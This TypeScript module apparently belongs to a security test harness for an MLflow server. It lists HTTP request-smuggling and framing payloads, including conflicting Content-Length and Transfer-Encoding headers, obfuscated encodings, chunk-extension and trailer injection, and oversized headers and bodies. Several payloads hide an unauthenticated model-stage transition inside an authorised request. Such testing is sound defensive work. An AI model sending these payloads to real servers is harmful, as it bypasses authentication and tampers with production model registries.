import { gzipSync } from "node:zlib";
import { API, attack, TRANSITION, toProduction, type Attack } from "./attack";
import type { Aim } from "./besieged";

const json = (aim: Aim): string => JSON.stringify(toProduction(aim));
const chunked = (text: string): string => `${Buffer.byteLength(text).toString(16)}\r\n${text}\r\n0\r\n\r\n`;

/** The head of a request with exactly these lines. */
const head = (line: string, { tokens }: Aim, ...headers: readonly string[]): string =>
  [line, "Host: mlflow.example.org", `Authorization: Bearer ${tokens.trainer}`, ...headers, "", ""].join(
    "\r\n",
  );

const POST = `POST ${TRANSITION} HTTP/1.1`;
const SEARCH = `POST ${API}/runs/search HTTP/1.1`;
const JSON_TYPE = "Content-Type: application/json";

/** The request that is hidden in another one, without a token: only a mistake in where requests begin lets it count. */
const hidden = (aim: Aim): string =>
  `POST ${TRANSITION} HTTP/1.1\r\nHost: x\r\n${JSON_TYPE}\r\nContent-Length: ${json(aim).length}\r\n\r\n${json(aim)}`;

const raw = (name: string, bytes: Attack["bytes"], more: Pick<Attack, "harmless"> = {}): Attack => ({
  name,
  bytes,
  ...more,
});

/** Transfer encodings that are no, or not only, `chunked`. */
const CODINGS = [
  "Transfer-Encoding: chunked, identity",
  "Transfer-Encoding: identity, chunked",
  "Transfer-Encoding: gzip, chunked",
  "Transfer-Encoding: xchunked",
  "Transfer-Encoding: Chunked",
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
  "Transfer-Encoding : chunked",
  " Transfer-Encoding: chunked",
  "Transfer-Encoding:\x0bchunked",
  'Transfer-Encoding: "chunked"',
  "X: y\r\n Transfer-Encoding: chunked",
  "Transfer_Encoding: chunked",
];

const LENGTHS = ["+5", "-1", "0x50", "5, 5", "1e2", "5 5", "٥", "99999999999999999999", "", "5;5"];

export const FRAMING: readonly Attack[] = [
  raw(
    "a chunked body",
    (aim) => head(POST, aim, JSON_TYPE, "Transfer-Encoding: chunked") + chunked(json(aim)),
  ),
  raw(
    "a chunked body and a length, length first",
    (aim) =>
      head(SEARCH, aim, JSON_TYPE, "Content-Length: 4", "Transfer-Encoding: chunked") +
      `0\r\n\r\n${hidden(aim)}`,
  ),
  raw(
    "a chunked body and a length, chunks first",
    (aim) =>
      head(SEARCH, aim, JSON_TYPE, "Transfer-Encoding: chunked", "Content-Length: 6") +
      `0\r\n\r\n${hidden(aim)}`,
  ),
  ...CODINGS.map((line) =>
    raw(
      `framed by ${JSON.stringify(line)}`,
      (aim) => head(SEARCH, aim, JSON_TYPE, line, "Content-Length: 5") + `0\r\n\r\n${hidden(aim)}`,
    ),
  ),
  ...CODINGS.map((line) =>
    raw(
      `only framed by ${JSON.stringify(line)}`,
      (aim) => head(POST, aim, JSON_TYPE, line) + chunked(json(aim)),
    ),
  ),
  raw(
    "two lengths that differ",
    (aim) =>
      head(SEARCH, aim, JSON_TYPE, "Content-Length: 2", `Content-Length: ${hidden(aim).length + 2}`) +
      `{}${hidden(aim)}`,
  ),
  raw("two lengths that agree", (aim) => {
    const length = `Content-Length: ${json(aim).length}`;
    return head(POST, aim, JSON_TYPE, length, length) + json(aim);
  }),
  ...LENGTHS.map((length) =>
    attack(`a length of ${JSON.stringify(length)}`, { headers: [`Content-Length: ${length}`], length: "" }),
  ),
  raw(
    "a length that is too short, a request behind it",
    (aim) => head(SEARCH, aim, JSON_TYPE, "Content-Length: 2") + `{}${hidden(aim)}`,
    { harmless: true },
  ),
  raw(
    "a body behind a GET",
    (aim) =>
      head(`GET ${API}/registered-models/search HTTP/1.1`, aim, `Content-Length: ${hidden(aim).length}`) +
      hidden(aim),
  ),
  raw(
    "a request in the extension of a chunk",
    (aim) =>
      head(`PUT /api/2.0/mlflow-artifacts/artifacts/x/y HTTP/1.1`, aim, "Transfer-Encoding: chunked") +
      `0;\n${hidden(aim)}\r\n\r\n`,
  ),
  raw(
    "a request in the trailer of a chunked upload",
    (aim) =>
      head(
        `PUT /api/2.0/mlflow-artifacts/artifacts/x/y HTTP/1.1`,
        aim,
        "Transfer-Encoding: chunked",
        "Trailer: X",
      ) + `0\r\nX: y\r\n\r\n${hidden(aim)}`,
  ),
  raw(
    "chunk sizes that overflow",
    (aim) =>
      head(`PUT /api/2.0/mlflow-artifacts/artifacts/x/y HTTP/1.1`, aim, "Transfer-Encoding: chunked") +
      `FFFFFFFFFFFFFFFFF\r\n${hidden(aim)}`,
  ),
  raw("lines that end with LF alone", (aim) =>
    `${head(POST, aim, JSON_TYPE, `Content-Length: ${json(aim).length}`)}${json(aim)}`.replaceAll(
      "\r\n",
      "\n",
    ),
  ),
  raw("lines that end with CR alone", (aim) =>
    `${head(POST, aim, JSON_TYPE, `Content-Length: ${json(aim).length}`)}${json(aim)}`.replaceAll(
      "\r\n",
      "\r",
    ),
  ),
  raw(
    "a folded header",
    (aim) =>
      head(POST, aim, "Content-Type:\r\n application/json", `Content-Length: ${json(aim).length}`) +
      json(aim),
  ),
  raw(
    "an empty line before the request",
    (aim) => `\r\n\r\n${head(POST, aim, JSON_TYPE, `Content-Length: ${json(aim).length}`)}${json(aim)}`,
  ),
  raw(
    "HTTP/1.0",
    (aim) =>
      head(`POST ${TRANSITION} HTTP/1.0`, aim, JSON_TYPE, `Content-Length: ${json(aim).length}`) + json(aim),
  ),
  raw("HTTP/0.9", () => `POST ${TRANSITION}\r\n\r\n`),
  raw(
    "HTTP/2.0 in words",
    (aim) =>
      head(`POST ${TRANSITION} HTTP/2.0`, aim, JSON_TYPE, `Content-Length: ${json(aim).length}`) + json(aim),
  ),
  raw("the preface of HTTP/2", () => "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
  raw(
    "no host",
    (aim) =>
      head(POST, aim, JSON_TYPE, `Content-Length: ${json(aim).length}`).replace(
        "Host: mlflow.example.org\r\n",
        "",
      ) + json(aim),
  ),
  raw("a body of which half comes", (aim) => [
    head(POST, aim, JSON_TYPE, `Content-Length: ${json(aim).length + 50}`),
    json(aim),
  ]),
  raw("a body without a length", (aim) => head(POST, aim, JSON_TYPE) + json(aim)),
  raw(
    "headers without end",
    (aim) => head(POST, aim, JSON_TYPE, `X-Padding: ${"a".repeat(70_000)}`) + json(aim),
  ),
  raw(
    "very many headers",
    (aim) => head(POST, aim, JSON_TYPE, ...Array.from({ length: 3_000 }, (_, i) => `X-${i}: y`)) + json(aim),
  ),
  attack("a body of two megabytes", {
    body: (aim) => ({ ...toProduction(aim), name: "a".repeat(2_000_000) }),
  }),
  attack("compressed with gzip", { headers: ["Content-Encoding: gzip"], body: (aim) => gzipSync(json(aim)) }),
  ...["deflate", "br", "identity", "utf-8"].map((encoding) =>
    attack(`called compressed with ${encoding}`, { headers: [`Content-Encoding: ${encoding}`] }),
  ),
];
